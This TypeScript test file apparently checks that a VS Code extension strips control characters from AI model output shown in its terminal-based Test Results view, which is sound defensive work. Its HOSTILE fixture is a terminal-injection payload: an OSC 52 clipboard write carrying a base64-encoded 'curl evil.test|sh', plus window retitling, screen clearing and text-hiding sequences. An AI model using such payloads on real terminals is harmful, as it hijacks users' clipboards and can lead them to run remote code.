import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { outcomeOf } from '../../extension/testing/testOutcome';
import { resultItem, score } from '../editor/unit/fixtures';

/**
 * VS Code's Test Results view is a terminal (xterm.js): what a run appends to it is interpreted, escape sequences
 * included. A hostile model's answer must not write the clipboard (OSC 52), retitle the window, move the cursor or
 * hide text there. `vutf results` is covered end to end in test/cli/ciGate.test.ts.
 */
const HOSTILE =
  'PWNED \u001b]52;c;Y3VybCBldmlsLnRlc3R8c2g=\u0007 \u001b]0;owned\u001b\\ \u001b[2J\u001b[H \u009b31m \r overwritten \u0008\u007f \u202eevil';

/** What may reach the terminal from model text: printable characters, newline and tab. */
// eslint-disable-next-line no-control-regex -- what must not be there
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('Test Explorer output carries no control character from a run', () => {
  const jailbroken = resultItem('say it', {
    outcome: 'success',
    automated_outcome: 'success',
    outcome_reason: `Jailbroken: ${HOSTILE}`,
    response: { converted_value: `line one\r\nline two\t${HOSTILE}`, response_error: 'none' },
    scores: [score({ score_rationale: HOSTILE, scorer: `Scorer${HOSTILE}` })],
  });

  it("a test's message (failed, errored, skipped) keeps its lines and tabs but no escape", () => {
    for (const outcome of ['success', 'error', 'undetermined'] as const) {
      const message = outcomeOf({ ...jailbroken, outcome, automated_outcome: outcome }).message ?? '';
      assert.doesNotMatch(message, CONTROL, `${outcome}: ${JSON.stringify(message)}`);
      assert.match(message, /PWNED \uFFFD\]52;c;/, 'shown neutralised, not dropped silently');
      assert.match(message, /line one\nline two\t/, 'newlines and tabs stay (a CRLF is one newline)');
    }
  });

  it('every line appended to the run output is neutralised and ends in CRLF', async () => {
    const { testOutputLine } = await import('../../extension/testing/testOutput');
    const line = testOutputLine(`"suite": failed (${HOSTILE})\nsecond line`);
    assert.doesNotMatch(line.slice(0, -2).replace(/\r\n/g, '\n'), CONTROL, JSON.stringify(line));
    assert.ok(line.endsWith('\r\n'));
    assert.match(line, /\r\nsecond line\r\n$/, 'a newline in the text is a terminal newline');
  });

  it('the CLI and the extension apply one rule (domain/controlText.ts)', async () => {
    const { neutraliseControls } = await import('../../domain/controlText');
    const { safeText } = await import('../../daemon/cli/oneLine');
    assert.equal(safeText(HOSTILE), neutraliseControls(HOSTILE.replace(/\s+/g, ' ').trim()));
    assert.doesNotMatch(neutraliseControls(HOSTILE, { keepLines: true }), CONTROL);
  });
});
